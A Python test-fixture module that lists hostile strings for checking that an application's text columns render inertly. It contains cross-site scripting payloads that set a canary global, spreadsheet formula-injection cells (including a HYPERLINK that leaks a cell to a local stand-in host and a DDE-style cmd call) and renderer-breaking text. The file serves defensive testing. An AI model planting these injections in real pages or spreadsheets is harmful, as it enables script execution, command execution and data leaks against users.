"""Hostile strings for ids, labels, comments and every other text column, and how to tell if one ran.

Each script payload sets ``window.__pwned`` (or loads a URL) when it runs, so a page test can prove
that nothing ran by reading that one global in the browser, and that nothing was fetched from its list
of requests. Ids keep no leading or trailing whitespace (a CSV reader strips cells).
"""

from __future__ import annotations

# Script and markup payloads: every one must show as its own text and run nothing.
SCRIPT_PAYLOADS = [
    '<img src=x onerror="window.__pwned=(window.__pwned||0)+1">',
    '"><svg onload="window.__pwned=2">',
    "</script><script>window.__pwned=3</script>",
    "<!--<script>window.__pwned=4</script>-->",
    "[click](javascript:window.__pwned=5)",
    "![remote](http://127.0.0.1:9/pixel.png)",
    "<http://127.0.0.1:9/autolink>",
    "'; window.__pwned=6; '",
    "{{7*7}}{% raw %}",
    "<style>body{background:url(http://127.0.0.1:9/css)}</style>",
    "&lt;b&gt;entity&lt;/b&gt; a|b **bold** `tick",
]

# Cells a spreadsheet would evaluate, and values that merely look like them (must come back exactly).
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "'=already quoted",
]

# Text that breaks naive renderers: matplotlib mathtext, right-to-left override, very long.
ODD_PAYLOADS = [
    r"pz-$\frac{$-mathtext",
    "pz-\u202eevil-rtl",
    "pz-" + "x" * 5000,
]

ALL_TEXT_PAYLOADS = SCRIPT_PAYLOADS + FORMULA_PAYLOADS + ODD_PAYLOADS

# Read in the page after it loaded and every handler had its chance.
PWNED = "window.__pwned === undefined ? null : window.__pwned"
